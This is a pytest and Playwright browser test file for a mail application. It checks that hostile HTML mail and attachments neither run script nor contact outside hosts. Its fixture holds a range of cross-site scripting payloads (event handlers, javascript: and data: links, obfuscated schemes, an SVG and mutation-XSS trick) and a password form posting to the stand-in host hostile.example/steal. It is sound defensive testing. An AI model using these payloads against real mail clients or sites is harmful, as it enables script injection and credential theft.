"""Hostile mail is opened like any other: nothing runs, nothing leaves."""

from urllib.parse import urlsplit

import pytest
from playwright.sync_api import expect

from tests.journeys.browser import WIDE
from tests.journeys.letters import address_of, letter, somebody, subject_of

ELSEWHERE = "hostile.example"
SVG = (
    '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(7)">'
    "<script>alert(8)</script></svg>"
)
TYPES = {"svg": ("image", "svg+xml"), "html": ("text", "html")}
HOSTILE = f"""
<html><head><base href="http://{ELSEWHERE}/">
<meta http-equiv="refresh" content="0;url=http://{ELSEWHERE}/refresh">
<link rel="stylesheet" href="http://{ELSEWHERE}/style.css">
<style>@import url(http://{ELSEWHERE}/import.css);
body {{ background: url(http://{ELSEWHERE}/background.png) }}
.cover {{ position: fixed; inset: 0; z-index: 9999; background: red }}</style></head>
<body onload="alert(1)">
<script>alert('Knock knock')</script>
<p>Please look at <b id="marker">this offer</b>.</p>
<img src="x" onerror="alert(2)">
<img src="http://{ELSEWHERE}/pixel.png" width="1" height="1">
<img srcset="http://{ELSEWHERE}/set.png 1x" src="http://{ELSEWHERE}/large.png">
<div class="cover" style="position:fixed;inset:0;background:url(//{ELSEWHERE}/b.png)">
covered</div>
<a id="bad" href="javascript:alert(3)">first link</a>
<a href="data:text/html,<script>alert(4)</script>">second link</a>
<a href=" jAvAsCrIpT&#58;alert(5)">third link</a>
<form action="http://{ELSEWHERE}/steal" method="post">
<input name="password" type="password"><button>Sign in</button></form>
<iframe src="http://{ELSEWHERE}/frame"></iframe>
<object data="http://{ELSEWHERE}/object.swf"></object>
<embed src="http://{ELSEWHERE}/embed.swf">
<video src="http://{ELSEWHERE}/film.mp4" poster="http://{ELSEWHERE}/poster.png"></video>
<table width="90000"><tr>{"<td>wide</td>" * 300}</tr></table>
<svg onload="alert(6)"><image href="http://{ELSEWHERE}/svg.png"/>
<animate onbegin="alert(9)" attributeName="x"/></svg>
<math><mtext></mtext><mglyph><style><img src=x onerror="alert(10)"></style></math>
</body></html>
"""


@pytest.fixture
def window(desk, sign_in):
    """A window in which the hostile mail is open."""
    subject = subject_of("<script>alert('subject')</script> offer")
    window = sign_in("noor")
    window.goto("/queues/all/")
    desk.send(_hostile_mail(subject))
    window.page.locator(".row", has_text=subject).get_by_role("link").click()
    inside = window.page.frame_locator("mail-frame iframe")
    expect(inside.get_by_text("this offer")).to_be_visible()
    return window


def _hostile_mail(subject):
    sender = f'"<img src=x onerror=alert(11)>" <{address_of(somebody())}>'
    mail = letter(sender=sender, subject=subject, text="An offer")
    mail.add_alternative(HOSTILE, subtype="html")
    for name, content in (
        ("plan.svg", SVG),
        ("page.html", "<script>alert(12)</script>"),
    ):
        maintype, subtype = TYPES[name.rpartition(".")[2]]
        mail.add_attachment(
            content.encode(), maintype=maintype, subtype=subtype, filename=name
        )
    return mail


class TestMailCannotHurt:
    def test_rows_64_and_82_nothing_runs_and_nothing_is_asked_for(self, window):
        inside = window.page.frame_locator("mail-frame iframe")

        for link in inside.get_by_role("link").all():
            assert urlsplit(link.get_attribute("href")).scheme in ("http", "https")
        for file in window.page.locator(".attachment").all():
            answer = window.page.request.get(window.url + file.get_attribute("href"))
            assert answer.headers["content-disposition"].startswith("attachment")
            assert answer.headers["x-content-type-options"] == "nosniff"
            assert "sandbox" in answer.headers["content-security-policy"]

        assert inside.locator("form, input, iframe, object, embed, svg").count() == 0
        assert window.dialogs == []
        assert _asked_elsewhere(window) == []
        assert urlsplit(window.page.url).path.startswith("/conversations/")

    def test_row_84_every_part_of_the_page_has_a_policy_also_on_its_own(self, window):
        parts = {
            path
            for path in map(_path_of, window.requests)
            if not path.startswith(("/static/", "/ws/"))
        }
        assert any(path.endswith("/html/") for path in parts)

        for path in parts:
            answer = window.page.request.get(window.url + path)
            assert "default-src 'none'" in answer.headers["content-security-policy"], (
                path
            )
        for path in parts:
            window.goto(path)

        assert window.dialogs == []
        assert _asked_elsewhere(window) == []

    def test_it_stays_inside_its_frame(self, window):
        page = window.page

        assert page.evaluate("document.documentElement.scrollWidth") <= WIDE["width"]
        frame = page.locator("mail-frame iframe").bounding_box()
        bubble = page.locator(".bubble").first.bounding_box()
        assert frame["width"] <= bubble["width"]
        page.get_by_role("button", name="Close", exact=True).click(trial=True)
        cover = page.frame_locator("mail-frame iframe").get_by_text("covered")
        assert cover.evaluate("it => getComputedStyle(it).position") == "static"

    def test_pictures_load_once_the_agent_allows_them(self, window):
        window.context.route(f"http://{ELSEWHERE}/**", lambda route: route.abort())

        window.page.get_by_role("button", name="Load from this sender").click()

        pictures = window.page.frame_locator("mail-frame iframe").locator("img[src]")
        expect(pictures).to_have_count(1)
        assert _asked_elsewhere(window) == [f"http://{ELSEWHERE}/large.png"]
        assert window.dialogs == []


def _path_of(url):
    return urlsplit(url).path


def _asked_elsewhere(window):
    own = urlsplit(window.url).hostname
    return [
        url
        for url in window.requests
        if url.startswith("http") and urlsplit(url).hostname != own
    ]
